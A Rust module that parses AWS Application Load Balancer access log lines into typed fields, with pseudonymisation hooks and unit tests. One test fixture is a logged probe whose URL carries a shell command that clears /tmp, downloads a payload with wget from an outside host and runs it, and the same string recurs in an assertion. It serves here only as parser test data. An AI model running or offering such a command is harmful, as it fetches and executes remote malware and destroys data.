//! Application Load Balancer access log entries.
//!
//! One space-separated line per request; some fields are double-quoted. Column
//! names are those of AWS's Athena table for ALB logs; `client:port` and
//! `target:port` are split into address and port.
//!
//! | # | column | type | notes |
//! |---|--------|------|-------|
//! | 1 | `type` | string | `http`, `https`, `h2`, `grpcs`, `ws`, `wss` |
//! | 2 | `time` | string | response time, ISO 8601 with microseconds; the event time |
//! | 3 | `elb` | string | `app/<name>/<id>` |
//! | 4 | `client_ip`, `client_port` | string, bigint | IPv6 with or without brackets |
//! | 5 | `target_ip`, `target_port` | string, bigint | null for Lambda targets and blocked requests |
//! | 6-8 | `request_processing_time`, `target_processing_time`, `response_processing_time` | double | seconds; `-1` when the request did not reach a target, kept as `-1` |
//! | 9-10 | `elb_status_code`, `target_status_code` | bigint | |
//! | 11-12 | `received_bytes`, `sent_bytes` | bigint | |
//! | 13 | `request_verb`, `request_url`, `request_proto` | string | split from the quoted request line (the URL may contain spaces) |
//! | 14 | `user_agent` | string | quoted |
//! | 15-16 | `ssl_cipher`, `ssl_protocol` | string | |
//! | 17 | `target_group_arn` | string | |
//! | 18 | `trace_id` | string | quoted |
//! | 19 | `domain_name` | string | quoted SNI domain |
//! | 20 | `chosen_cert_arn` | string | quoted |
//! | 21 | `matched_rule_priority` | bigint | `0` is the default rule |
//! | 22 | `request_creation_time` | string | ISO 8601 |
//! | 23 | `actions_executed` | array<string> | quoted, comma-separated in the log |
//! | 24 | `redirect_url` | string | quoted |
//! | 25 | `error_reason` | string | quoted |
//! | 26 | `target_port_list` | array<string> | quoted, space-separated `ip:port` list |
//! | 27 | `target_status_code_list` | array<string> | quoted, space-separated |
//! | 28-29 | `classification`, `classification_reason` | string | desync mitigation |
//! | 30 | `conn_trace_id` | string | `TID_...` |
//! | 31-33 | `transformed_host`, `transformed_uri`, `request_transform_status` | string | URL rewrite transforms |
//! | 34+ | `extra_fields` | array<string> | fields AWS adds in future, kept as written |
//!
//! Older lines stop early (fields missing at the end are null), newer lines carry
//! more (kept in `extra_fields`). Lists written unquoted by some tools are
//! accepted as one-element lists.

use schemars::JsonSchema;
use serde::Serialize;

use super::{Format, ParseError, ParseResult, Parsed, Sniff, prefix};
use crate::pseudonym::scrub::{Rule, Scrub};
use crate::text::{
    Token, Tokens, nullable, opt_f64, opt_i64, opt_str, split_host_port, split_request,
};
use crate::time::parse_iso8601;
use crate::value::Str;

/// Fields before this index must all be present for the line to count as ALB
/// (up to and including `request_creation_time`, present since 2018).
const REQUIRED_FIELDS: usize = 22;

/// An Application Load Balancer access log entry.
#[derive(Debug, Clone, Default, Serialize, JsonSchema)]
pub struct Alb<'a> {
    /// Request type: http, https, h2, grpcs, ws or wss.
    #[serde(rename = "type")]
    pub request_type: Str<'a>,
    /// Time the load balancer generated the response (ISO 8601, microseconds).
    pub time: Str<'a>,
    /// Load balancer resource id (`app/<name>/<id>`).
    pub elb: Str<'a>,
    /// Client IP address.
    pub client_ip: Option<Str<'a>>,
    /// Client source port.
    pub client_port: Option<i64>,
    /// Target IP address (null for Lambda targets and requests that reached none).
    pub target_ip: Option<Str<'a>>,
    /// Target port.
    pub target_port: Option<i64>,
    /// Seconds from receiving the request to sending it to a target; -1 when not dispatched.
    pub request_processing_time: Option<f64>,
    /// Seconds the target took to start responding; -1 when not dispatched or the target failed.
    pub target_processing_time: Option<f64>,
    /// Seconds from receiving the target's response headers to sending the response; -1 when not dispatched.
    pub response_processing_time: Option<f64>,
    /// Status code of the load balancer's response.
    pub elb_status_code: Option<i64>,
    /// Status code of the target's response.
    pub target_status_code: Option<i64>,
    /// Bytes received from the client (headers and body).
    pub received_bytes: Option<i64>,
    /// Bytes sent to the client (headers and body).
    pub sent_bytes: Option<i64>,
    /// HTTP method of the request line.
    pub request_verb: Option<Str<'a>>,
    /// URL of the request line.
    pub request_url: Option<Str<'a>>,
    /// Protocol of the request line.
    pub request_proto: Option<Str<'a>>,
    /// User-Agent header.
    pub user_agent: Option<Str<'a>>,
    /// TLS cipher (HTTPS listeners).
    pub ssl_cipher: Option<Str<'a>>,
    /// TLS protocol (HTTPS listeners).
    pub ssl_protocol: Option<Str<'a>>,
    /// Target group ARN.
    pub target_group_arn: Option<Str<'a>>,
    /// X-Amzn-Trace-Id header.
    pub trace_id: Option<Str<'a>>,
    /// SNI domain offered by the client.
    pub domain_name: Option<Str<'a>>,
    /// ARN of the certificate presented to the client.
    pub chosen_cert_arn: Option<Str<'a>>,
    /// Priority of the rule that matched (0 is the default rule).
    pub matched_rule_priority: Option<i64>,
    /// Time the load balancer received the request (ISO 8601).
    pub request_creation_time: Option<Str<'a>>,
    /// Actions taken (authenticate, waf, forward, redirect, fixed-response, ...).
    pub actions_executed: Vec<Str<'a>>,
    /// Redirect target URL.
    pub redirect_url: Option<Str<'a>>,
    /// Error reason code.
    pub error_reason: Option<Str<'a>>,
    /// Targets (`ip:port`) that processed the request.
    pub target_port_list: Vec<Str<'a>>,
    /// Status codes from the targets.
    pub target_status_code_list: Vec<Str<'a>>,
    /// Desync mitigation classification (Acceptable, Ambiguous, Severe).
    pub classification: Option<Str<'a>>,
    /// Desync classification reason code.
    pub classification_reason: Option<Str<'a>>,
    /// Connection traceability id (`TID_...`).
    pub conn_trace_id: Option<Str<'a>>,
    /// Host header after a host-header rewrite transform.
    pub transformed_host: Option<Str<'a>>,
    /// URI after a URL rewrite transform.
    pub transformed_uri: Option<Str<'a>>,
    /// Status of the rewrite transforms.
    pub request_transform_status: Option<Str<'a>>,
    /// Fields after the last documented one, as written.
    pub extra_fields: Vec<Str<'a>>,
}

/// Parses one ALB access log line.
pub fn parse(line: &str) -> ParseResult<Alb<'_>> {
    let mut alb = Alb::default();
    let mut count = 0;
    for (index, Token { text, quoted }) in Tokens::new(line).enumerate() {
        count = index + 1;
        match index {
            0 => alb.request_type = text.into(),
            1 => alb.time = text.into(),
            2 => alb.elb = text.into(),
            3 => {
                let (ip, port) = split_host_port(text);
                alb.client_ip = ip.map(Into::into);
                alb.client_port = port;
            }
            4 => {
                let (ip, port) = split_host_port(text);
                alb.target_ip = ip.map(Into::into);
                alb.target_port = port;
            }
            5 => alb.request_processing_time = number(text, "request_processing_time")?,
            6 => alb.target_processing_time = number(text, "target_processing_time")?,
            7 => alb.response_processing_time = number(text, "response_processing_time")?,
            8 => alb.elb_status_code = opt_i64(text),
            9 => alb.target_status_code = opt_i64(text),
            10 => alb.received_bytes = opt_i64(text),
            11 => alb.sent_bytes = opt_i64(text),
            12 => {
                let (verb, url, proto) = split_request(text);
                alb.request_verb = verb.map(Into::into);
                alb.request_url = url.map(Into::into);
                alb.request_proto = proto.map(Into::into);
            }
            13 => alb.user_agent = opt_str(text),
            14 => alb.ssl_cipher = opt_str(text),
            15 => alb.ssl_protocol = opt_str(text),
            16 => alb.target_group_arn = opt_str(text),
            17 => alb.trace_id = opt_str(text),
            18 => alb.domain_name = opt_str(text),
            19 => alb.chosen_cert_arn = opt_str(text),
            20 => alb.matched_rule_priority = opt_i64(text),
            21 => alb.request_creation_time = opt_str(text),
            22 => alb.actions_executed = list(text, b','),
            23 => alb.redirect_url = opt_str(text),
            24 => alb.error_reason = opt_str(text),
            25 => alb.target_port_list = list(text, b' '),
            26 => alb.target_status_code_list = list(text, b' '),
            27 => alb.classification = opt_str(text),
            28 => alb.classification_reason = opt_str(text),
            29 => alb.conn_trace_id = opt_str(text),
            30 => alb.transformed_host = opt_str(text),
            31 => alb.transformed_uri = opt_str(text),
            32 => alb.request_transform_status = opt_str(text),
            _ => alb.extra_fields.push(if quoted && text.is_empty() {
                "".into()
            } else {
                text.into()
            }),
        }
    }
    if count < REQUIRED_FIELDS {
        return Err(ParseError::new(format!(
            "ALB entry has {count} fields, at least {REQUIRED_FIELDS} expected"
        )));
    }
    let time =
        parse_iso8601(&alb.time).ok_or(ParseError::fixed("ALB time is not an ISO 8601 time"))?;
    Ok(Parsed::new(alb, Some(time)))
}

/// Processing times: a number (`-1` kept) or null; anything else means the
/// line is not what we think it is.
fn number(text: &str, what: &'static str) -> Result<Option<f64>, ParseError> {
    match nullable(text) {
        None => Ok(None),
        Some(_) => opt_f64(text)
            .map(Some)
            .ok_or_else(|| ParseError::new(format!("ALB {what} {text:?} is not a number"))),
    }
}

fn list(text: &str, separator: u8) -> Vec<Str<'_>> {
    match nullable(text) {
        None => Vec::new(),
        Some(text) => text
            .split(char::from(separator))
            .filter(|item| !item.is_empty() && *item != "-")
            .map(Into::into)
            .collect(),
    }
}

/// ALB access logs: the [`Format`] of this module.
pub struct AlbFormat;

impl Format for AlbFormat {
    type Body<'a> = Alb<'a>;
    type Header = ();

    fn sniff(line: &str) -> Sniff {
        // `<type> <ISO time> ...`, the request type first.
        match prefix::first_word(line.as_bytes()) {
            Some((b"http" | b"https" | b"h2" | b"grpcs" | b"ws" | b"wss", rest))
                if prefix::is_date(rest) =>
            {
                Sniff::Line
            }
            _ => Sniff::No,
        }
    }

    fn parse<'a>(_: &(), line: &'a str) -> ParseResult<Alb<'a>> {
        parse(line)
    }

    fn pseudonymise(a: &mut Alb<'_>, s: &mut Scrub<'_>) {
        s.set(&mut a.client_ip, Rule::AnyIp);
        s.url(&mut a.request_url);
        s.url(&mut a.redirect_url);
    }

    fn alert_source<'b>(a: &'b Alb<'_>) -> Option<&'b str> {
        Some(a.elb.as_ref())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::{Value, json};

    fn parse_value(line: &str) -> (Value, Option<i64>) {
        let parsed = parse(line).expect("parses");
        (serde_json::to_value(&parsed.body).unwrap(), parsed.time)
    }

    const HTTPS: &str = r#"https 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 "GET https://www.example.com:443/ HTTP/1.1" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" 1 2018-07-02T22:22:48.364000Z "authenticate,forward" "-" "-" "10.0.0.1:80" "200" "-" "-" TID_1234abcd5678ef90"#;

    #[test]
    fn parses_every_documented_field() {
        let (v, time) = parse_value(HTTPS);
        assert_eq!(
            crate::time::iso_string(time.unwrap()),
            "2018-07-02T22:23:00.186Z"
        );
        assert_eq!(v["type"], "https");
        assert_eq!(v["client_ip"], "192.168.131.39");
        assert_eq!(v["client_port"], 2817);
        assert_eq!(v["target_port"], 80);
        assert_eq!(v["request_processing_time"], 0.086);
        assert_eq!(v["elb_status_code"], 200);
        assert_eq!(v["sent_bytes"], 57);
        assert_eq!(v["request_verb"], "GET");
        assert_eq!(v["request_url"], "https://www.example.com:443/");
        assert_eq!(v["request_proto"], "HTTP/1.1");
        assert_eq!(v["ssl_protocol"], "TLSv1.2");
        assert_eq!(v["domain_name"], "www.example.com");
        assert_eq!(v["matched_rule_priority"], 1);
        assert_eq!(v["actions_executed"], json!(["authenticate", "forward"]));
        assert_eq!(v["redirect_url"], Value::Null);
        assert_eq!(v["target_port_list"], json!(["10.0.0.1:80"]));
        assert_eq!(v["target_status_code_list"], json!(["200"]));
        assert_eq!(v["conn_trace_id"], "TID_1234abcd5678ef90");
        assert_eq!(v["transformed_host"], Value::Null);
        assert_eq!(v["extra_fields"], json!([]));
    }

    #[test]
    fn keeps_minus_one_and_nulls_for_unrouted_requests() {
        let line = r#"http 2022-05-12T06:41:29.051646Z app/admin-LoadB-1EGHQRJIOLMFR/3011821a43ee0c5e 75.100.154.140:41542 - -1 -1 -1 301 - 233 390 "GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1" "Hello, world" - - - "Root=1-627cac19-4c6df30820daa80e3fd72ced" "-" "-" 0 2022-05-12T06:41:29.051000Z "redirect" "https://127.0.0.1:443/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws" "-" "-" "-" "Acceptable" "SpaceInUri""#;
        let (v, _) = parse_value(line);
        assert_eq!(v["request_processing_time"], -1.0);
        assert_eq!(v["target_ip"], Value::Null);
        assert_eq!(v["target_status_code"], Value::Null);
        assert_eq!(
            v["request_url"],
            "http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws"
        );
        assert_eq!(v["classification"], "Acceptable");
        assert_eq!(v["classification_reason"], "SpaceInUri");
        assert_eq!(v["target_port_list"], json!([]));
        assert_eq!(v["conn_trace_id"], Value::Null);
    }

    #[test]
    fn ipv6_with_and_without_brackets() {
        let bracketed = HTTPS.replace(
            "192.168.131.39:2817 10.0.0.1:80",
            "[fe80::202:b3ff:fe1e:8329]:443 [2001:db8::1]:80",
        );
        let (v, _) = parse_value(&bracketed);
        assert_eq!(
            (v["client_ip"].as_str(), v["client_port"].as_i64()),
            (Some("fe80::202:b3ff:fe1e:8329"), Some(443))
        );
        assert_eq!(
            (v["target_ip"].as_str(), v["target_port"].as_i64()),
            (Some("2001:db8::1"), Some(80))
        );
        let bare = HTTPS.replace(
            "192.168.131.39:2817",
            "2601:6bbc:c529:9dad:6bbc:c529:9dad:6bbc:50599",
        );
        let (v, _) = parse_value(&bare);
        assert_eq!(
            (v["client_ip"].as_str(), v["client_port"].as_i64()),
            (Some("2601:6bbc:c529:9dad:6bbc:c529:9dad:6bbc"), Some(50599))
        );
    }

    #[test]
    fn newer_fields_are_kept_and_older_lines_accepted() {
        let newer = format!(
            r#"{HTTPS} "rewritten.example.com" "/new" "TransformSuccess" "field-from-2030""#
        );
        let (v, _) = parse_value(&newer);
        assert_eq!(v["transformed_host"], "rewritten.example.com");
        assert_eq!(v["request_transform_status"], "TransformSuccess");
        assert_eq!(v["extra_fields"], json!(["field-from-2030"]));
        // A 2018-era line ends after request_creation_time + actions.
        let older = HTTPS.split(r#" "-" "-" "10.0.0.1:80""#).next().unwrap();
        let (v, _) = parse_value(older);
        assert_eq!(v["actions_executed"], json!(["authenticate", "forward"]));
        assert_eq!(v["target_port_list"], json!([]));
    }

    #[test]
    fn rejects_what_is_not_alb() {
        assert!(parse("http 2018-07-02T22:23:00.186641Z too short").is_err());
        let bad_time = HTTPS.replace("2018-07-02T22:23:00.186641Z app", "yesterday app");
        assert!(parse(&bad_time).unwrap_err().0.contains("ISO 8601"));
        let bad_number = HTTPS.replace(" 0.086 ", " fast ");
        assert!(
            parse(&bad_number)
                .unwrap_err()
                .0
                .contains("request_processing_time")
        );
    }
}
